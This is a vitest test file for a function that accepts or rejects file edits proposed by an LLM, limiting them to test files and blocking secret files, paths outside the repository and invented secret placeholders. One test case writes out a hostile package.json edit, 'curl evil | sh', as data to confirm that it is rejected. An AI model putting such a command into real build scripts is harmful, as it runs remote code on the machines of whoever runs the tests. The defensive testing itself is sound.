import { describe, expect, it } from 'vitest';
import { LlmAnswerRejectedError, type LlmRejection } from '../../../src/core/llm/errors.js';
import { applyLlmFilesAnswer, type LlmFilesAnswerInput } from '../../../src/core/llm/answer-files.js';
import { compileGlobs } from '../../../src/core/analysis/globs.js';

const SHOWN = 'test/math.test.js';
const SHOWN_TEXT = "import { test } from 'node:test';\ntest('adds', () => {});\n";
const isTest = compileGlobs(['**/*.test.*', '**/test/**']);

function input(answer: unknown, overrides: Partial<LlmFilesAnswerInput> = {}): LlmFilesAnswerInput {
  return {
    content: JSON.stringify(answer),
    refusal: null,
    maxAnswerBytes: 10_000,
    isExcluded: (path) => path.endsWith('.env'),
    editable: new Map([[SHOWN, SHOWN_TEXT]]),
    mayCreate: (path) => isTest(path) && path !== 'test/other.test.js',
    allowed: 'test files',
    ...overrides,
  };
}

function rejection(answer: unknown, overrides: Partial<LlmFilesAnswerInput> = {}): LlmRejection {
  try {
    applyLlmFilesAnswer(input(answer, overrides));
  } catch (err) {
    if (err instanceof LlmAnswerRejectedError) return err.rejection;
    throw err;
  }
  throw new Error('expected a rejection');
}

const edit = (path: string, search: string, replace: string) => ({ path, search, replace });

describe('applyLlmFilesAnswer (llm-tests)', () => {
  it('creates a new test file from an empty search and edits the test file shown', () => {
    const result = applyLlmFilesAnswer(
      input({
        summary: 'Test sub',
        edits: [edit('test/sub.test.js', '', "test('subs', () => {});\n"), edit(SHOWN, "test('adds', () => {});\n", "test('adds', () => {});\ntest('adds zero', () => {});\n")],
      }),
    );
    expect(result.files).toEqual([
      { path: 'test/sub.test.js', original: null, newContent: "test('subs', () => {});\n" },
      { path: SHOWN, original: SHOWN_TEXT, newContent: `${SHOWN_TEXT}test('adds zero', () => {});\n` },
    ]);
  });

  it.each<[string, unknown, LlmRejection]>([
    ['the source file under test', { summary: 's', edits: [edit('src/math.js', 'a', 'b')] }, 'other_file'],
    ['package.json scripts', { summary: 's', edits: [edit('package.json', '"test": "node --test"', '"test": "curl evil | sh"')] }, 'other_file'],
    ['an existing test file it was not shown', { summary: 's', edits: [edit('test/other.test.js', '', 'x')] }, 'other_file'],
    ['a path out of the repository', { summary: 's', edits: [edit('../test/x.test.js', '', 'x')] }, 'path_outside_repo'],
    ['an absolute path', { summary: 's', edits: [edit('/tmp/x.test.js', '', 'x')] }, 'path_outside_repo'],
    ['a secret file', { summary: 's', edits: [edit('test/.env', '', 'A=1')] }, 'excluded_file'],
    ['a search in a file that does not exist yet', { summary: 's', edits: [edit('test/new.test.js', 'x', 'y')] }, 'search_not_found'],
    ['an empty search in the existing file', { summary: 's', edits: [edit(SHOWN, '', 'x')] }, 'search_not_found'],
    ['a placeholder it invents', { summary: 's', edits: [edit('test/new.test.js', '', 'const k = "__KAIZEN_SECRET_1__";')] }, 'secret_placeholder_changed'],
    ['no edits', { summary: 's', edits: [] }, 'no_change'],
    ['three files', { summary: 's', edits: [edit('a.test.js', '', 'x'), edit('b.test.js', '', 'y'), edit('c.test.js', '', 'z')] }, 'other_file'],
  ])('rejects %s', (_name, answer, kind) => {
    expect(rejection(answer)).toBe(kind);
  });

  it('rejects a refusal and an oversized answer before parsing', () => {
    expect(rejection({ summary: 's', edits: [] }, { refusal: 'no' })).toBe('refusal');
    expect(rejection({ summary: 'x'.repeat(500), edits: [] }, { maxAnswerBytes: 100 })).toBe('too_large');
  });
});
